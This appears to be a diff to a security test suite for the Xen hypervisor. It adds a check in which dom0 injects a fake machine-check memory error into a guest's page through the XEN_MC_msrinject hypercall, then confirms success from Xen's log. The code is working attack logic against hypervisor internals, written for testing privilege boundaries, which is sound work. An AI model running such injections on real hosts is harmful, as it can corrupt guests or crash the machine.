@@ -3,13 +3,15 @@
  * Advisory: what dom0 may do to the host under a guest
  *
  * Claim:  dom0 leaves an image that gets all memory when the host goes down,
- *         makes memory uncached, declares frames bad, and changes what Xen
- *         does when it crashes.
+ *         makes memory uncached, declares frames bad, makes up a memory error
+ *         in a guest's page, and changes what Xen does when it crashes.
  * Method: KEXEC_CMD_kexec_load, XENPF_add_memtype,
- *         XEN_SYSCTL_page_offline_op, and Xen's parameters by hypfs.  What has
- *         been done is asked for afterwards, and undone.
+ *         XEN_SYSCTL_page_offline_op, XEN_MC_msrinject, and Xen's parameters
+ *         by hypfs.  What has been done is asked for afterwards, and undone.
  * Stock:  all of it.
  */
+#include <errno.h>
+#include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 
@@ -17,6 +19,7 @@
 
 #include "../attack.h"
 
+#include <xen/arch-x86/xen-mca.h>
 #include <xen/kexec.h>
 
 #define IMAGE_AT (64ul << 20)
@@ -122,6 +125,53 @@ static enum verdict page_offline(struct victim *v)
                    n);
 }
 ATTACK(page_offline, .needs = SHARED, .frames = true);
+
+/* Bank 0's address: the guest's page becomes where a memory error was. */
+#define MCA_ADDRESS 0x402
+
+static long inject(uint32_t domid, unsigned long gfn)
+{
+    struct xen_mc op = {
+        .cmd = XEN_MC_msrinject,
+        .interface_version = XEN_MCA_INTERFACE_VERSION,
+        .u.mc_msrinject =
+            {
+                .mcinj_flags = MC_MSRINJ_F_INTERPOSE | MC_MSRINJ_F_GPADDR,
+                .mcinj_count = 1,
+                .mcinj_domid = domid,
+                .mcinj_msr = {{.reg = MCA_ADDRESS, .value = gfn * PAGE}},
+            },
+    };
+
+    return hypercall_1(__HYPERVISOR_mca, &op, sizeof(op));
+}
+
+/*
+ * Nobody looks at the register before there is a machine check, which would
+ * end this machine: Xen's log has what was put there.
+ */
+static enum verdict mca_inject(struct victim *v)
+{
+    unsigned long mfn[CANDIDATES];
+    unsigned int i, n = frames_of_lines(mfn, CANDIDATES);
+    long rc = inject(v->id, LINES_GFN);
+    char text[64];
+
+    if ( rc == -EPERM )
+        return verdict(FAILURE, "refused: %ld", rc);
+    if ( rc )
+        return verdict(ERROR, "not even refused: %ld", rc);
+    for ( i = 0; i < n; i++ )
+    {
+        snprintf(text, sizeof(text), "MSR %#x <-- %#lx", MCA_ADDRESS,
+                 mfn[i] * PAGE);
+        if ( log_count(v->log, text) )
+            return verdict(SUCCESS, "an error at %#lx", mfn[i] * PAGE);
+    }
+    return verdict(FAILURE, "no such thing in the log");
+}
+/* A PVH dom0 has no such call. */
+ATTACK(mca_inject, .needs = SHARED, .frames = true, .pv_only = true);
 
 /* What Xen does when it crashes: here, to print what it knows. */
 static enum verdict runtime_parameter(struct victim *v)
